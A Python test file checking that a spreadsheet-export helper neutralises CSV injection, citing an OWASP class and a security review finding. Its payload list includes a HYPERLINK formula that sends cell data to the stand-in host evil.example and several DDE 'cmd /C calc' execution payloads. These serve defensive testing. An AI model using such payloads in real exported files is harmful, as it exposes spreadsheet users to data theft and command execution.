"""Cells that cannot become formulas (security review M3, OWASP CSV injection)."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from fazhi.cells import append_row, csv_cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"点击查看处理详情")',
    "=cmd|' /C calc'!A0 拖欠工资",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_cell_that_starts_like_a_formula_gets_an_apostrophe(payload):
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["深圳市某某公司", "2026-03-09", "a=b", "", 1200, None])
def test_other_values_are_written_as_they_are(value):
    assert csv_cell(value) == value


def test_an_excel_row_keeps_formula_like_text_as_text_and_numbers_as_numbers():
    book = Workbook()
    sheet = book.active
    append_row(sheet, [*PAYLOADS, 1200, "福田区"])
    out = io.BytesIO()
    book.save(out)
    read = load_workbook(io.BytesIO(out.getvalue())).active
    cells = next(read.iter_rows(values_only=False))
    assert [cell.value for cell in cells] == [*PAYLOADS, 1200, "福田区"]
    assert all(cell.data_type == "s" for cell in cells[: len(PAYLOADS)])
    assert cells[len(PAYLOADS)].data_type == "n"
